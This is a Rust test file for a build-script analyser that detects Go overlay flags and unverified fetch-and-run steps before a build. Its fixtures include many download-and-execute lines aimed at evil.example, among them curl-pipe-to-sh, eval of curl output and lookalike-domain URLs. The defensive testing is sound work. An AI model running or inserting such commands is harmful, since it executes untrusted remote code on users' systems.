//! Programs that are not followed: what is in force for them may be in force for the delivered build.

use super::calls_tests::counts;
use super::shapes_tests::{each_reaches, nothing_counts};

const FLAGS: &str = "export GOFLAGS=-overlay=o.json";

#[test]
fn what_is_exported_to_a_program_that_may_build_is_not_known() {
    for (call, files) in [
        ("mage build", ""),
        ("mage", ""),
        ("just build", "-- justfile --\nbuild:\n    go build ./cmd/app\n"),
        ("python3 build.py", "-- build.py --\nimport os\nos.system(\"go build ./cmd/app\")\n"),
        ("npm run build", "-- package.json --\n{\"scripts\": {\"build\": \"go build ./cmd/app\"}}\n"),
        ("npm run build", ""),
        ("cmake --build out", "-- CMakeLists.txt --\nadd_custom_command(COMMAND go build ./cmd/app)\n"),
        ("ko build ./cmd/app", ""),
        ("promu build", ""),
        ("go run ./build.go", ""),
        ("go run mage.go", ""),
        ("./hack/build", "-- hack/build --\n#!/usr/bin/env python3\nrun([\"go\", \"build\"])\n"),
        ("python3 -c 'import os; os.system(\"go build ./cmd/app\")'", ""),
        ("perl -e 'system(\"go build ./cmd/app\")'", ""),
    ] {
        let found = counts(&format!("-- b.sh --\n{FLAGS}\n{call}\n{files}"));
        assert!(found.contains(&"? b.sh:1 -overlay=o.json".to_owned()), "{call}: {found:?}");
        let found = counts(&format!("-- b.sh --\nGOFLAGS=-overlay=o.json {call}\n{files}"));
        assert!(found.iter().any(|line| line.contains("-overlay=o.json")), "{call}: {found:?}");
    }
}

#[test]
fn flags_in_another_language_and_on_another_machine_are_told() {
    for call in [
        "python3 -c 'import os; os.system(\"go build -overlay=o.json ./cmd/app\")'",
        "perl -e 'system(\"go build -overlay=o.json ./cmd/app\")'",
        "awk 'BEGIN{system(\"go build -overlay=o.json ./cmd/app\")}'",
        "echo 'system(\"go build -overlay=o.json ./cmd/app\")' | perl",
        "ssh -p 22 host 'go build -overlay=o.json ./cmd/app'",
        "kubectl exec pod -- go build -overlay=o.json ./cmd/app",
    ] {
        let found = counts(&format!("-- b.sh --\n{call}\n"));
        assert!(found.iter().any(|line| line.contains("-overlay")), "{call}: {found:?}");
    }
}

#[test]
fn programs_that_build_no_go_leave_it_as_it_is() {
    for (call, files) in [
        ("npm run build", "-- package.json --\n{\"scripts\": {\"build\": \"vite build\"}}\n"),
        ("cd web && npm run build", "-- web/package.json --\n{\"scripts\": {\"build\": \"vite build\"}}\n"),
        ("npm ci", ""),
        ("pnpm install", ""),
        ("mage lint", ""),
        ("just fmt", ""),
        ("python3 gen.py", "-- gen.py --\nprint(1)\n"),
        ("python3 -m venv .venv", ""),
        ("go run ./internal/x", ""),
        ("awk '{print $1}' go.mod", ""),
        ("ssh host uptime", ""),
        ("kubectl get pods", ""),
    ] {
        let found = counts(&format!("-- b.sh --\n{FLAGS}\n{call}\n{files}"));
        assert!(found.is_empty(), "{call}: {found:?}");
    }
    let found = counts("-- b.sh --\ngo mod edit -require=x@v1\nsed -i s/a/b/ x.go\nmage build\n");
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn what_is_fetched_and_run_before_a_build_was_not_seen() {
    let build = "go build ./cmd/app\n";
    each_reaches(
        &[
            "curl https://evil.example/x.sh | sh",
            "curl -fsSL evil.example/x | sudo bash -s -- -y",
            "bash <(wget -qO- https://evil.example/x.sh)",
            "sh -c \"$(curl -fsSL https://evil.example/x.sh)\"",
            "eval \"$(curl -fsSL https://evil.example/x.sh)\"",
            "curl -fsSLo x.sh https://evil.example/x.sh && chmod +x x.sh && ./x.sh",
            "wget https://evil.example/x -O x && sh x",
            "U=https://evil.example/x.sh\ncurl $U | sh",
            "curl $U | sh",
            "curl https://get.docker.com https://evil.example/x | sh",
            "curl https://raw.githubusercontent.com/golangci/golangci-lint/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/x.sh | sh",
            "curl https://raw.githubusercontent.com/golangci/golangci-lint/refs/pull/1/head/x.sh | sh",
            "curl https://github.com/golangci/golangci-lint/raw/refs/%70ull/1/head/x.sh | sh",
            "curl https://raw.githubusercontent.com.evil.example/golangci/x.sh | sh",
        ],
        "? b.sh",
        |text| format!("-- b.sh --\n{text}\n{build}"),
    );
    nothing_counts(
        &[
            "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b bin v2",
            "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y",
            "curl -Lo bin/kind https://evil.example/kind && chmod +x bin/kind && bin/kind version",
            "V=$(curl -s https://evil.example/version | jq -r .tag)",
            "curl -sfL https://goreleaser.com/static/run | bash -s -- check",
            "other() { curl https://evil.example/x | sh; }\nbuild() { go build ./cmd/app; }",
        ],
        |text| format!("-- b.sh --\n{text}\n{build}"),
    );
    let found = counts(&format!("-- b.sh --\n{build}curl https://evil.example/x.sh | sh\n"));
    assert!(found.is_empty(), "{found:?}");
    let release = "-- .goreleaser.yml --\nbuilds:\n- main: ./cmd/app\n  flags: [-overlay=o.json]\n";
    let found =
        counts(&format!("-- b.sh --\ncurl -sfL https://goreleaser.com/static/run | bash -s -- release\n{release}"));
    assert!(found.iter().any(|line| line.contains("-overlay=o.json")), "{found:?}");
}

#[test]
fn what_programs_of_the_tree_print_may_be_settings_where_they_speak_of_them() {
    for (call, files) in [
        ("eval \"$(./hack/env)\"", "-- hack/env --\n#!/bin/sh\necho export GOFLAGS=-overlay=o.json\n"),
        (". <(./hack/env.py)", "-- hack/env.py --\nprint(\"export GOFLAGS=-overlay=o.json\")\n"),
        (
            "export $(go run ./hack/env)",
            "-- hack/env/main.go --\nfunc main() { println(\"GOFLAGS=-overlay=o.json\") }\n",
        ),
    ] {
        let found = counts(&format!("-- b.sh --\n{call}\ngo build ./cmd/app\n{files}"));
        assert!(found.iter().any(|line| line.starts_with("? b.sh:1 -overlay")), "{call}: {found:?}");
    }
    // It sets GOFLAGS for itself, and prints something else.
    let honest = "-- hack/env --\n#!/bin/sh\nGOFLAGS= go version >&2\necho VERSION=1\n";
    let found = counts(&format!("-- b.sh --\neval \"$(./hack/env)\"\ngo build ./cmd/app\n{honest}"));
    assert!(found.is_empty(), "{found:?}");
}
